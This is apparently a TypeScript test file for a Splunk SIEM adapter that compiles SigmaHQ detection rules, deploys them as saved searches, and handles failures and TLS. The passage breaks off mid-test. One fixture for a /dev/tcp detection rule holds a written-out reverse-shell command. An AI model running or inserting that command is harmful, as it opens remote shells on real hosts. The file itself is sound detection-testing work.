import { SPLUNK_CIM } from '../../sigma/pipelines';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { compileForTarget } from '../../sigma/lint/for-target';
import { parseRule } from '../../sigma/parse';
import type { CompiledRule } from '../../siem/adapter';
import { remoteKind } from '../../siem/adapters';
import { objectName } from '../../siem/remote/deployed-marker';
import { SiemRequestError } from '../../siem/remote/errors';
import { type SplunkAdapter, splunkConnection, splunkKind } from '../../siem/splunk';
import { conditionOf, deployedSearch } from '../../siem/splunk/spl';
import { startFakeSplunk, type FakeSplunk } from '../fakes/splunk';
import { runSearch, SplError, type Row } from '../fakes/splunk/spl';
import { CORPUS_DIR } from '../sigma/support/corpus';

const T0 = Date.UTC(2024, 4, 1); // 2024-05-01T00:00Z
const HOUR = 3_600_000;
const DAY = 86_400_000;
const TENANT = '11111111-1111-4111-8111-111111111111';
const TARGET = '22222222-2222-4222-8222-222222222222';
const DEP1 = '33333333-3333-4333-8333-333333333333';
const DEP2 = '44444444-4444-4444-8444-444444444444';

/**
 * SigmaHQ rules (Detection Rule License 1.1), read in place from the shared corpus:
 * - windows/process_creation/proc_creation_win_chcp_codepage_switch.yml — Florian Roth (Nextron Systems), Jonhnathan Ribeiro, oscd.community
 * - windows/process_creation/proc_creation_win_powershell_run_script_from_input_stream.yml — Moriarty Meng (idea), Anton Kutepov (rule), oscd.community
 * - windows/process_creation/proc_creation_win_susp_copy_system_dir.yml — Florian Roth (Nextron Systems), Markus Neis, Tim Shelton (HAWK.IO), Nasreddine Bencherchali (Nextron Systems)
 * - windows/process_creation/proc_creation_win_cmd_unusual_parent.yml — Tim Rauch, Elastic (idea)
 * - linux/builtin/lnx_susp_dev_tcp.yml — frack113
 */
const corpusRule = (name: string) => parseRule(readFileSync(join(CORPUS_DIR, 'rules/windows/process_creation', name), 'utf8'));
const CHCP = corpusRule('proc_creation_win_chcp_codepage_switch.yml');
const PS_STDIN = corpusRule('proc_creation_win_powershell_run_script_from_input_stream.yml');
const COPY_SYSDIR = corpusRule('proc_creation_win_susp_copy_system_dir.yml');
const CMD_PARENT = corpusRule('proc_creation_win_cmd_unusual_parent.yml');
const DEV_TCP = parseRule(readFileSync(join(CORPUS_DIR, 'rules/linux/builtin/lnx_susp_dev_tcp.yml'), 'utf8'));

let fake: FakeSplunk;
let clock: number;
const adapters: SplunkAdapter[] = [];

function adapterFor(extra: Record<string, unknown> = {}, f: FakeSplunk = fake): SplunkAdapter {
  const connection = splunkConnection.parse({ ...f.connection(), ...extra });
  const a = splunkKind.create({ targetId: TARGET, targetName: 'splunk-test', connection, now: () => new Date(clock) }) as SplunkAdapter;
  adapters.push(a);
  return a;
}

function compiled(rule = CHCP, version = 1): CompiledRule {
  const result = adapterFor().compile(rule);
  if (!result.ok) throw new Error(JSON.stringify(result.issues));
  return { ruleId: rule.id!, version, query: result.query, ...(result.logsource ? { logsource: result.logsource } : {}), title: rule.title, level: 'medium' };
}

beforeEach(async () => {
  clock = T0 + 3 * DAY;
  fake = await startFakeSplunk({ now: () => new Date(clock) });
});
afterEach(async () => {
  for (const a of adapters.splice(0)) a.close();
  await fake.close();
});

const chcpEvents = () =>
  fake.addProcessEvents([
    { time: new Date(T0 + HOUR), image: 'C:\\Windows\\System32\\chcp.com', commandLine: 'chcp 936' },
    { time: new Date(T0 + 2 * HOUR), image: 'C:\\Windows\\System32\\chcp.com', commandLine: 'chcp 437' },
    { time: new Date(T0 + DAY + HOUR), image: 'C:\\Windows\\System32\\CHCP.COM', commandLine: 'CHCP 1258' },
    { time: new Date(T0 + DAY + 2 * HOUR), image: 'C:\\Windows\\System32\\chcp.com', commandLine: 'chcp 936' },
    { time: new Date(T0 + DAY + 3 * HOUR), image: 'C:\\Windows\\explorer.exe', commandLine: 'explorer.exe' },
  ]);

describe('settings and registration', () => {
  it('is the registered splunk kind and validates its connection', () => {
    expect(remoteKind('splunk')).toBe(splunkKind);
    const ok = splunkConnection.parse({ management_url: 'https://splunk.example:8089/', token: 'abcd1234' });
    expect(ok).toMatchObject({
      management_url: 'https://splunk.example:8089',
      app: 'search',
      owner: 'nobody',
      index: 'main',
      token_scheme: 'Bearer',
      max_concurrency: 4,
      ingest_lag_seconds: 60,
    });
    const problems = (v: unknown) => {
      const r = splunkConnection.safeParse(v);
      return r.success ? [] : r.error.issues.map((i) => i.message);
    };
    expect(problems({ management_url: 'http://splunk.example:8089', token: 't' }).join()).toMatch(/https/);
    expect(problems({ management_url: 'https://splunk.example:8089' }).join()).toMatch(/token .* or username and password/);
    expect(problems({ management_url: 'https://splunk.example:8089', token: 't', username: 'u', password: 'p' }).join()).toMatch(/not both/);
    expect(problems({ management_url: 'https://splunk.example:8089', token: 't', index: 'main, Bad Index' }).join()).toMatch(/index/);
    expect(problems({ management_url: 'https://splunk.example:8089', token: 't', cron_schedule: 'every five minutes' }).join()).toMatch(/cron/);
  });

  it('compiles with the Splunk backend and reports what it cannot express', () => {
    const a = adapterFor();
    expect(a.capabilities()).toEqual({
      queryLanguage: 'spl',
      fixtures: true,
      historicalSearch: true,
      liveEvaluation: true,
      deploy: true,
      alertStats: true,
      runStats: true,
      fieldPresence: true,
      maxSearchWindowDays: null,
    });
    expect(a.compile(CHCP)).toEqual({ ok: true, query: compileForTarget(CHCP, 'splunk'), logsource: { category: 'process_creation', product: 'windows' } });
    const bad = parseRule(
      `title: t\nid: 5a1b0c2d-0000-4000-8000-000000000001\nlogsource: {category: process_creation, product: windows}\ndetection:\n  s:\n    Image|fieldref|contains: User\n  condition: s\n`,
    );
    expect(a.compile(bad)).toMatchObject({ ok: false, issues: [{ code: 'backend-unsupported', line: 6 }] });
  });
});

describe('fixtures', () => {
  it('runs the condition over the fixture events in one makeresults search and tells which matched', async () => {
    const a = adapterFor();
    const out = await a.runFixtures(compiled(), [
      { name: 'vietnamese', event: { Image: 'C:\\Windows\\System32\\chcp.com', CommandLine: 'chcp 1258' }, expect: 'match' },
      { name: 'us', event: { Image: 'C:\\Windows\\System32\\chcp.com', CommandLine: 'chcp 437' }, expect: 'no_match' },
      { name: 'wrongly expected', event: { Image: 'C:\\x\\chcp.com', CommandLine: 'chcp 936' }, expect: 'no_match' },
      { name: 'quotes "and" \\ backslashes', event: { Image: 'C:\\"odd"\\chcp.com', CommandLine: 'x 936' }, expect: 'match' },
    ]);
    expect(out.map((o) => [o.name, o.matched, o.passed])).toEqual([
      ['vietnamese', true, true],
      ['us', false, true],
      ['wrongly expected', true, false],
      ['quotes "and" \\ backslashes', true, true],
    ]);
    expect(out[2]!.reason).toMatch(/matched this event/);
    const sent = fake.searches().at(-1)!;
    expect(sent).toMatch(/^\| makeresults format=json data="\[\{\\"process_path\\":/);
    expect(sent).toContain('| search process_path="*\\\\chcp.com" (process="* 936" OR process="* 1258") | table _fixture');
  });

  it('applies regex post-filters and NOT groups to fixtures', async () => {
    const a = adapterFor();
    const rule = compiled(COPY_SYSDIR);
    expect(rule.query).toContain('| regex process="(?i)');
    const out = await a.runFixtures(rule, [
      {
        name: 'copy from system32',
        event: { Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd /c copy C:\\windows\\system32\\certutil.exe C:\\tmp\\c.exe' },
        expect: 'match',
      },
      { name: 'copy elsewhere', event: { Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd /c copy C:\\a.txt C:\\b.txt' }, expect: 'no_match' },
      {
        name: 'avira filter',
        event: {
          Image: 'C:\\Windows\\System32\\cmd.exe',
          CommandLine: 'cmd /c copy "C:\\Windows\\System32\\x.dll" C:\\Program Files\\Avira\\Temp\\avira_system_speedup.exe',
        },
        expect: 'no_match',
      },
    ]);
    expect(out.map((o) => o.passed)).toEqual([true, true, true]);
  });
  it('matches Sigma keywords against the whole fixture event (its _raw)', async () => {
    const a = adapterFor();
    const rule = compiled(DEV_TCP);
    expect(rule.query.startsWith('"*cat </dev/tcp/*" OR')).toBe(true);
    const out = await a.runFixtures(rule, [
      { name: 'reverse shell', event: { message: 'user ran: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' }, expect: 'match' },
      { name: 'benign', event: { message: 'cat /etc/hosts' }, expect: 'no_match' },
    ]);
    expect(out.map((o) => o.passed)).toEqual([true, true]);
  });
});

describe('historical search', () => {
  it('counts per UTC day with scanned = the logsource events of the index', async () => {
    chcpEvents();
    fake.addEvents([{ time: new Date(T0 + HOUR), index: 'other', tag: ['process', 'report'], process_path: 'C:\\chcp.com', process: 'chcp 936' }]);
    const a = adapterFor();
    const res = await a.count(TENANT, TARGET, compiled(), { from: new Date(T0), to: new Date(T0 + 3 * DAY) });
    expect(res.matched).toBe(3);
    expect(res.scanned).toBe(5);
    expect(res.bytesScanned).toBe(0);
    expect(res.perDay).toEqual([
      { day: '2024-05-01', scanned: 2, matched: 1 },
      { day: '2024-05-02', scanned: 3, matched: 2 },
      { day: '2024-05-03', scanned: 0, matched: 0 },
    ]);
    const sent = fake.searches();
    expect(sent).toContain(`search index=main ${compiled().query} | eval detflow_day=floor(_time/86400) | stats count by detflow_day`);
    expect(sent).toContain('search index=main tag=process tag=report | eval detflow_day=floor(_time/86400) | stats count by detflow_day');
  });

  it('searches a half-open window across a comma list of indexes, oldest first, with truncation', async () => {
    chcpEvents();
    fake.addEvents([{ time: new Date(T0 + 30 * 60_000), index: 'second', tag: ['process', 'report'], process_path: 'C:\\chcp.com', process: 'chcp 936' }]);
    const a = adapterFor({ index: 'main,second' });
    const window = { from: new Date(T0), to: new Date(T0 + DAY + 2 * HOUR) }; // the event at exactly `to` is out
    const all = await a.search(TENANT, TARGET, compiled(), window);
    expect(all.matched).toBe(3);
    expect(all.truncated).toBe(false);
    expect(all.events.map((e) => e.time.toISOString())).toEqual(['2024-05-01T00:30:00.000Z', '2024-05-01T01:00:00.000Z', '2024-05-02T01:00:00.000Z']);
    expect(all.events[1]!.event).toMatchObject({ process_path: 'C:\\Windows\\System32\\chcp.com', process: 'chcp 936', index: 'main' });
    expect(new Set(all.events.map((e) => e.eventId)).size).toBe(3);
    const one = await a.search(TENANT, TARGET, compiled(), window, { limit: 1 });
    expect(one.events).toHaveLength(1);
    expect(one.truncated).toBe(true);
    expect(fake.searches()).toContain(`search (index=main OR index=second) ${compiled().query} | sort 2 _time`);
    expect(await a.planChunks(TENANT, TARGET, { from: new Date(T0 + HOUR), to: new Date(T0 + DAY + HOUR) }, 1000)).toEqual([
      { from: new Date(T0 + HOUR), to: new Date(T0 + DAY), events: 0 },
      { from: new Date(T0 + DAY), to: new Date(T0 + DAY + HOUR), events: 0 },
    ]);
  });

  it('evaluates live slices by event time, lagging behind now', async () => {
    const a = adapterFor({ ingest_lag_seconds: 60 });
    clock = T0 + 10 * 60_000;
    const start = await a.latestCursor(TENANT, TARGET);
    expect(start).toBe(T0 + 9 * 60_000);
    fake.addProcessEvents([
      { time: new Date(T0 + 9 * 60_000 + 1000), image: 'C:\\w\\chcp.com', commandLine: 'chcp 936' },
      { time: new Date(T0 + 9 * 60_000 + 2000), image: 'C:\\w\\cmd.exe', commandLine: 'cmd' },
      { time: new Date(T0 + 10 * 60_000 + 1000), image: 'C:\\w\\chcp.com', commandLine: 'chcp 1258' },
    ]);
    expect(await a.evaluateSince(TENANT, TARGET, compiled(), start)).toMatchObject({ cursor: start, matched: 0, events: [] });
    clock = T0 + 12 * 60_000;
    const first = await a.evaluateSince(TENANT, TARGET, compiled(), start);
    expect(first).toMatchObject({ cursor: T0 + 11 * 60_000, matched: 2, scanned: 3, truncated: false });
    expect(first.events.map((e) => e.seq)).toEqual([T0 + 9 * 60_000 + 1000, T0 + 10 * 60_000 + 1000]);
    const limited = await a.evaluateSince(TENANT, TARGET, compiled(), start, { limit: 1 });
    expect(limited).toMatchObject({ matched: 2, truncated: true });
    expect(limited.events).toHaveLength(1);
    expect((await a.evaluateSince(TENANT, TARGET, compiled(), first.cursor)).matched).toBe(0);
  });

  it('reports field presence and the newest event of a logsource', async () => {
    chcpEvents();
    fake.addProcessEvents([{ time: new Date(T0 + DAY + 5 * HOUR), image: 'C:\\p.exe', commandLine: 'p', parentImage: 'C:\\parent.exe' }]);
    const a = adapterFor();
    const res = await a.fieldPresence({
      tenantId: TENANT,
      targetId: TARGET,
      logsource: { category: 'process_creation', product: 'windows' },
      fields: ['process_path', 'parent_process_path', 'original_file_name'],
      since: new Date(T0 + DAY),
    });
    expect(res).toEqual({ events: 4, fields: { process_path: 4, parent_process_path: 1, original_file_name: 0 }, newestEventTime: new Date(T0 + DAY + 5 * HOUR) });
  });
});

describe('deployment', () => {
  it('creates a scheduled alerting saved search, then changes nothing for the same deployment', async () => {
    const a = adapterFor({ alert_action: 'webhook' });
    const rule = compiled();
    const first = await a.deploy({ deploymentId: DEP1, tenantId: TENANT, targetId: TARGET, rule });
    expect(first).toMatchObject({ changed: true, superseded: null, deployment: { deploymentId: DEP1, ruleId: rule.ruleId, version: 1, query: rule.query, state: 'active' } });
    const saved = [...fake.server.savedSearches.values()][0]!;
    expect(saved).toMatchObject({ name: objectName(rule.ruleId), app: 'search', owner: 'nobody' });
    expect(saved.settings).toMatchObject({
      search: `search index=main ${rule.query}`,
      is_scheduled: '1',
      disabled: '0',
      cron_schedule: '*/5 * * * *',
      'dispatch.earliest_time': '-10m@m',
      'dispatch.latest_time': 'now',
      alert_type: 'number of events',
      alert_comparator: 'greater than',
      alert_threshold: '0',
      'alert.track': '1',
      'alert.severity': '3',
      actions: 'webhook',
    });
    expect(saved.settings.description).toContain(`[detflow deployment=${DEP1} tenant=${TENANT} target=${TARGET} version=1`);
    const again = await a.deploy({ deploymentId: DEP1, tenantId: TENANT, targetId: TARGET, rule });
    expect(again.changed).toBe(false);
    expect(fake.writes()).toHaveLength(1);
    const next = await a.deploy({ deploymentId: DEP2, tenantId: TENANT, targetId: TARGET, rule: { ...rule, version: 2 } });
    expect(next).toMatchObject({ changed: true, superseded: DEP1 });
    expect(fake.writes().map((w) => w.method)).toEqual(['POST', 'POST']);
    expect(fake.writes()[1]!.path).toBe(`/servicesNS/nobody/search/saved/searches/${objectName(rule.ruleId)}`);
  });

  it('lists, inventories (drift) and undeploys by deleting the saved search', async () => {
    const a = adapterFor();
    const rules = [compiled(CHCP), compiled(PS_STDIN), compiled(COPY_SYSDIR), compiled(CMD_PARENT)];
    for (const [i, rule] of rules.entries()) await a.deploy({ deploymentId: `${DEP1.slice(0, -1)}${i}`, tenantId: TENANT, targetId: TARGET, rule });
    fake.server.savedSearches.set('search\u0000Someone else', {
      name: 'Someone else',
      app: 'search',
      owner: 'admin',
      settings: { search: 'search index=main x' },
      updated: new Date(clock),
    });
    fake.server.savedSearches.set('search\u0000detflow-by-hand', {
      name: 'detflow-by-hand',
      app: 'search',
      owner: 'admin',
      settings: { search: 'search index=main y' },
      updated: new Date(clock),
    });
    // pageCap 2: the listing takes several pages
    const listed = await a.listDeployed(TENANT, TARGET);
    expect(listed.map((d) => d.ruleId).sort()).toEqual(rules.map((r) => r.ruleId).sort());
    expect(listed.find((d) => d.ruleId === CHCP.id)).toMatchObject({ query: rules[0]!.query, version: 1, deployedAt: new Date(clock) });
    expect(await a.listDeployed('99999999-9999-4999-8999-999999999999')).toEqual([]);
    expect(fake.requests().filter((r) => r.method === 'GET' && r.path.endsWith('/saved/searches')).length).toBeGreaterThanOrEqual(3);

    fake.editQuery(objectName(CHCP.id!), 'search index=main tag=process *');
    fake.setEnabled(objectName(PS_STDIN.id!), false);
    const inventory = await a.inventory(TENANT, TARGET);
    expect(inventory).toHaveLength(5);
    const byName = new Map(inventory.map((o) => [o.name, o]));
    expect(byName.get(objectName(CHCP.id!))).toMatchObject({
      ruleId: CHCP.id,
      deploymentId: `${DEP1.slice(0, -1)}0`,
      queryUnchanged: false,
      enabled: true,
      query: 'search index=main tag=process *',
    });
    expect(byName.get(objectName(PS_STDIN.id!))).toMatchObject({ queryUnchanged: true, enabled: false });
    expect(byName.get('detflow-by-hand')).toMatchObject({ deploymentId: null, version: null, queryUnchanged: false });
    // a redeploy puts the edited search back
    expect((await a.deploy({ deploymentId: `${DEP1.slice(0, -1)}0`, tenantId: TENANT, targetId: TARGET, rule: rules[0]! })).changed).toBe(true);

    expect(await a.undeploy(TENANT, `${DEP1.slice(0, -1)}1`)).toEqual({ changed: true });
    expect(await a.undeploy(TENANT, `${DEP1.slice(0, -1)}1`)).toEqual({ changed: false });
    expect(fake.objects().map((o) => o.name)).not.toContain(objectName(PS_STDIN.id!));
    expect(fake.requests().some((r) => r.method === 'DELETE' && r.status === 200)).toBe(true);
  });
});

describe('health', () => {
  it('counts fired alerts in the window per day', async () => {
    const a = adapterFor();
    const name = objectName(CHCP.id!);
    expect(await a.alertStats(TENANT, CHCP.id!, { from: new Date(T0), to: new Date(T0 + 2 * DAY) })).toMatchObject({ alerts: 0, firstAlertAt: null });
    fake.recordAlerts(name, [new Date(T0 - HOUR), new Date(T0 + HOUR), new Date(T0 + 2 * HOUR), new Date(T0 + DAY + HOUR), new Date(T0 + 2 * DAY)]);
    const stats = await a.alertStats(TENANT, CHCP.id!, { from: new Date(T0), to: new Date(T0 + 2 * DAY) });
    expect(stats).toEqual({
      ruleId: CHCP.id,
      alerts: 3,
      perDay: [
        { day: '2024-05-01', alerts: 2 },
        { day: '2024-05-02', alerts: 1 },
      ],
      firstAlertAt: new Date(T0 + HOUR),
      lastAlertAt: new Date(T0 + DAY + HOUR),
    });
  });

  it('reads runs from the scheduler log and scanned events from the audit log', async () => {
    const a = adapterFor();
    await a.deploy({ deploymentId: DEP1, tenantId: TENANT, targetId: TARGET, rule: compiled() });
    const name = objectName(CHCP.id!);
    fake.recordRuns(name, [
      { time: new Date(T0 + HOUR), status: 'success', runTimeSeconds: 1.5, resultCount: 0, scanCount: 100 },
      { time: new Date(T0 + 2 * HOUR), status: 'success', runTimeSeconds: 2.5, resultCount: 1, scanCount: 50 },
      { time: new Date(T0 + 3 * HOUR), status: 'continued', reason: 'deferred' },
      { time: new Date(T0 + 4 * HOUR), status: 'skipped', reason: 'The maximum number of concurrent historical scheduled searches on this instance has been reached' },
      { time: new Date(T0 + 5 * DAY), status: 'success', runTimeSeconds: 9, scanCount: 1 },
    ]);
    fake.recordRuns('detflow-other', [{ time: new Date(T0 + HOUR), status: 'skipped', reason: 'other' }]);
    const stats = await a.runStats(TENANT, CHCP.id!, { from: new Date(T0), to: new Date(T0 + DAY) });
    expect(stats).toEqual({
      ruleId: CHCP.id,
      runs: 3,
      failedRuns: 1,
      eventsScanned: 150,
      meanDurationMs: 2000,
      maxDurationMs: 2500,
      lastRunAt: new Date(T0 + 4 * HOUR),
      lastError: 'skipped: The maximum number of concurrent historical scheduled searches on this instance has been reached',
    });
  });
});

describe('failures', () => {
  it('reports refused credentials as auth without the credential in the message', async () => {
    const a = adapterFor();
    fake.expireCredentials();
    const err = await a.count(TENANT, TARGET, compiled(), { from: new Date(T0), to: new Date(T0 + DAY) }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(SiemRequestError);
    expect(err).toMatchObject({ failure: 'auth', details: { status: 401, vendorMessage: 'call not properly authenticated' } });
    expect((err as Error).message).not.toContain(String(fake.connection().token));
    fake.restoreCredentials();
    const basic = adapterFor({ token: undefined, username: 'detflow-svc', password: 'wrong-password-1234' });
    const err2 = await basic.listDeployed(TENANT).catch((e: unknown) => e);
    expect(err2).toMatchObject({ failure: 'auth' });
    expect(JSON.stringify(err2) + (err2 as Error).message).not.toMatch(/wrong-password-1234|ZGV0Zmxvdy1zdmM6d3Jvbmc/);
    const good = adapterFor({ token: undefined, username: 'detflow-svc', password: 'fake-splunk-password-9d1e' });
    expect(await good.listDeployed(TENANT)).toEqual([]);
    const splunkScheme = adapterFor({ token_scheme: 'Splunk' });
    expect(await splunkScheme.listDeployed(TENANT)).toEqual([]);
  });

  it('reports throttling with the Retry-After delay', async () => {
    const a = adapterFor();
    fake.fault({ times: 1, status: 429, retryAfterSeconds: 7, match: /search\/jobs/ });
    const err = await a.count(TENANT, TARGET, compiled(), { from: new Date(T0), to: new Date(T0 + DAY) }).catch((e: unknown) => e);
    expect(err).toMatchObject({ failure: 'throttled', retryable: true, details: { status: 429, retryAfterMs: 7000 } });
    fake.fault({ times: 1, status: 503, retryAfterSeconds: 2, match: /saved\/searches/ });
    expect(await a.listDeployed(TENANT).catch((e: unknown) => e)).toMatchObject({ failure: 'throttled', details: { retryAfterMs: 2000 } });
  });

  it('writes the saved search exactly once when a deploy fails with 500 and is retried', async () => {
    const a = adapterFor();
    fake.fault({ times: 1, status: 500, match: /^POST \/servicesNS\/nobody\/search\/saved\/searches$/ });
    const request = { deploymentId: DEP1, tenantId: TENANT, targetId: TARGET, rule: compiled() };
    expect(await a.deploy(request).catch((e: unknown) => e)).toMatchObject({ failure: 'unavailable', retryable: true, details: { status: 500 } });
    expect(fake.objects()).toHaveLength(0);
    expect((await a.deploy(request)).changed).toBe(true);
    expect((await a.deploy(request)).changed).toBe(false);
    expect(fake.writes()).toHaveLength(1);
    expect(fake.objects()).toHaveLength(1);
  });

  it('changes nothing on the retry when a deploy was written but its answer was lost', async () => {
    const a = adapterFor();
    fake.loseWriteAnswers(1);
    const request = { deploymentId: DEP1, tenantId: TENANT, targetId: TARGET, rule: compiled() };
    expect(await a.deploy(request).catch((e: unknown) => e)).toMatchObject({ failure: 'unavailable', details: { status: 500 } });
    expect(await a.deploy(request)).toMatchObject({ changed: false, superseded: null });
    expect(fake.writes()).toHaveLength(1);
  });

  it('times out on a slow answer', async () => {
    const a = adapterFor({ timeout_ms: 200 });
    fake.fault({ times: 1, delayMs: 1000 });
    expect(await a.listDeployed(TENANT).catch((e: unknown) => e)).toMatchObject({ failure: 'timeout', retryable: true });
  });

  it("passes Splunk's message on for a search it refuses", async () => {
    const a = adapterFor();
    const err = await a
      .count(TENANT, TARGET, { ruleId: 'r', version: 1, query: 'tag=process | transaction host' }, { from: new Date(T0), to: new Date(T0 + DAY) })
      .catch((e: unknown) => e);
    expect(err).toMatchObject({ failure: 'rejected', details: { status: 400 } });
    expect((err as SiemRequestError).details.vendorMessage).toMatch(/Unknown search command 'transaction'/);
  });
});

describe('TLS with a private CA', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'detflow-splunk-tls-'));
    const ssl = (...args: string[]) => execFileSync('/usr/bin/openssl', args, { cwd: dir, stdio: 'pipe' });
    ssl('req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'ca.key', '-out', 'ca.pem', '-days', '2', '-subj', '/CN=detflow test CA');
    ssl('req', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'server.key', '-out', 'server.csr', '-subj', '/CN=127.0.0.1');
    writeFileSync(join(dir, 'ext.cnf'), 'subjectAltName=IP:127.0.0.1,DNS:localhost\n');
    ssl('x509', '-req', '-in', 'server.csr', '-CA', 'ca.pem', '-CAkey', 'ca.key', '-CAcreateserial', '-out', 'server.pem', '-days', '2', '-extfile', 'ext.cnf');
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('connects with the ca_bundle and refuses the certificate without it', async () => {
    const tlsFake = await startFakeSplunk({ tls: { key: readFileSync(join(dir, 'server.key'), 'utf8'), cert: readFileSync(join(dir, 'server.pem'), 'utf8') } });
    try {
      expect(tlsFake.connection().management_url).toMatch(/^https:\/\/127\.0\.0\.1:/);
      const trusted = adapterFor({ ca_bundle: readFileSync(join(dir, 'ca.pem'), 'utf8') }, tlsFake);
      expect(await trusted.listDeployed(TENANT)).toEqual([]);
      const untrusted = adapterFor({}, tlsFake);
      expect(await untrusted.listDeployed(TENANT).catch((e: unknown) => e)).toMatchObject({ failure: 'unavailable' });
    } finally {
      for (const a of adapters.splice(0)) a.close();
      await tlsFake.close();
    }
  });
});

describe('the fake refuses requests that depart from the REST API', () => {
  const raw = (method: string, path: string, body?: string, headers: Record<string, string> = {}) =>
    new Promise<{ status: number; body: string }>((resolve, reject) => {
      const url = new URL(path, fake.url);
      const r = http.request(url, { method, headers: { authorization: `Bearer ${String(fake.connection().token)}`, ...headers } }, (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') }));
      });
      r.on('error', reject);
      if (body !== undefined) r.write(body);
      r.end();
    });
  const form = { 'content-type': 'application/x-www-form-urlencoded' };

  it('refuses JSON bodies, a missing output_mode, unknown arguments and bad names', async () => {
    const json = await raw('POST', '/servicesNS/nobody/search/saved/searches?output_mode=json', JSON.stringify({ name: 'x', search: 'search *' }), {
      'content-type': 'application/json',
    });
    expect(json.status).toBe(400);
    expect(json.body).toContain('application/x-www-form-urlencoded');
    const xml = await raw('GET', '/servicesNS/nobody/search/saved/searches');
    expect(xml).toMatchObject({ status: 400 });
    expect(xml.body).toContain('output_mode=json');
    const unknown = await raw('POST', '/servicesNS/nobody/search/saved/searches?output_mode=json', 'name=x&search=search%20*&schedule=often', form);
    expect(unknown.status).toBe(400);
    expect(JSON.parse(unknown.body)).toEqual({ messages: [{ type: 'ERROR', text: 'Argument "schedule" is not supported by this handler.' }] });
    expect((await raw('POST', '/servicesNS/nobody/search/saved/searches?output_mode=json', 'name=a%2Fb&search=search%20*', form)).status).toBe(400);
    expect((await raw('POST', '/servicesNS/nobody/search/saved/searches?output_mode=json', 'name=x&search=search%20*&is_scheduled=1', form)).body).toContain('cron_schedule');
    expect((await raw('POST', '/servicesNS/nobody/search/saved/searches?output_mode=json', 'name=x&search=search%20*&alert_type=sometimes', form)).body).toContain(
      'alert_type',
    );
    expect((await raw('GET', '/servicesNS/nobody/search/saved/searches?output_mode=json', undefined, { authorization: 'Token nope' })).status).toBe(401);
  });

  it('refuses search jobs it cannot run exactly, naming the construct', async () => {
    const job = (fields: Record<string, string>) => raw('POST', '/services/search/jobs?output_mode=json', new URLSearchParams(fields).toString(), form);
    const unknownCommand = await job({ search: 'search index=main | transaction host', exec_mode: 'oneshot' });
    expect(unknownCommand.status).toBe(400);
    expect(unknownCommand.body).toContain("Unknown search command 'transaction'");
    expect((await job({ search: 'index=main', exec_mode: 'oneshot' })).body).toContain("starts with 'search' or '|'");
    expect((await job({ search: 'search index=main', exec_mode: 'normal' })).body).toContain('oneshot');
    expect((await job({ search: 'search index=main', exec_mode: 'oneshot', earliest_time: '-24h' })).body).toContain('epoch');
    expect((await job({ search: 'search index=main earliest=-1d', exec_mode: 'oneshot' })).body).toContain('time modifier');
    expect((await job({ search: 'search index=main | regex process="(?>a)"', exec_mode: 'oneshot' })).body).toContain('PCRE construct');
    expect((await job({ search: 'search (index=main', exec_mode: 'oneshot' })).body).toContain('Unbalanced parentheses');
  });
});

describe("the fake's SPL evaluator on corpus rules", () => {
  const row = (fields: Row): Row => ({ index: 'main', tag: ['process', 'report'], _time: T0 / 1000, ...fields });
  const run = (rule: Parameters<typeof compileForTarget>[0], rows: Row[]) => {
    const search = deployedSearch(['main'], compileForTarget(rule, 'splunk'));
    return runSearch(search, { events: () => rows }).map((r) => r.n);
  };

  it('evaluates field matches, wildcards, case and tags as Splunk does', () => {
    const rows = [
      row({ n: 1, process_path: 'C:\\Windows\\System32\\chcp.com', process: 'chcp 936' }),
      row({ n: 2, process_path: 'C:\\WINDOWS\\SYSTEM32\\CHCP.COM', process: 'CHCP 1258' }),
      row({ n: 3, process_path: 'C:\\Windows\\System32\\chcp.com', process: 'chcp 936 /x' }),
      row({ n: 4, process_path: 'C:\\Windows\\System32\\chcp.com', process: 'chcp 936', tag: ['network'] }),
      row({ n: 5, process_path: 'C:\\Windows\\System32\\chcp.com', process: 'chcp 936', index: 'other' }),
    ];
    expect(run(CHCP, rows)).toEqual([1, 2]);
  });

  it('evaluates OR lists and the regex post-filter', () => {
    expect(
      run(CMD_PARENT, [
        row({ n: 1, process_path: 'C:\\Windows\\System32\\cmd.exe', parent_process_path: 'C:\\Windows\\System32\\lsass.exe' }),
        row({ n: 2, process_path: 'C:\\Windows\\System32\\cmd.exe', parent_process_path: 'C:\\Windows\\explorer.exe' }),
        row({ n: 3, process_path: 'C:\\Windows\\System32\\notepad.exe', parent_process_path: 'C:\\Windows\\System32\\lsass.exe' }),
      ]),
    ).toEqual([1]);
    expect(
      run(PS_STDIN, [
        row({ n: 1, process_path: 'C:\\w\\powershell.exe', process: 'powershell -  < script.ps1' }),
        row({ n: 2, process_path: 'C:\\w\\pwsh.exe', process: 'pwsh -File x.ps1' }),
        row({ n: 3, process_path: 'C:\\w\\cmd.exe', process: 'cmd - < x' }),
      ]),
    ).toEqual([1]);
  });

  it('evaluates NOT groups, nested ORs and a case-insensitive PCRE', () => {
    expect(
      run(COPY_SYSDIR, [
        row({ n: 1, process_path: 'C:\\w\\xcopy.exe', process: 'xcopy C:\\WINDOWS\\SysWOW64\\a.exe d:\\' }),
        row({ n: 2, process_path: 'C:\\w\\cmd.exe', process: 'cmd /c copy C:\\Windows\\System32\\x C:\\Temp\\y \\avira_system_speedup.exe C:\\Program Files (x86)\\Avira\\' }),
        row({ n: 3, process_path: 'C:\\w\\notepad.exe', process: 'copy C:\\Windows\\System32\\x' }),
        row({ n: 4, original_file_name: 'robocopy.exe', process_path: 'C:\\r.exe', process: 'r "C:\\Windows\\WinSxS\\a"' }),
      ]),
    ).toEqual([1, 4]);
  });

  it('keeps Splunk precedence (OR binds tighter than AND) and refuses what it cannot read', () => {
    const rows = [row({ n: 1, a: 'x', b: 'y' }), row({ n: 2, a: 'x', c: 'z' }), row({ n: 3, b: 'y' })];
    const q = (s: string) => runSearch(s, { events: () => rows }).map((r) => r.n);
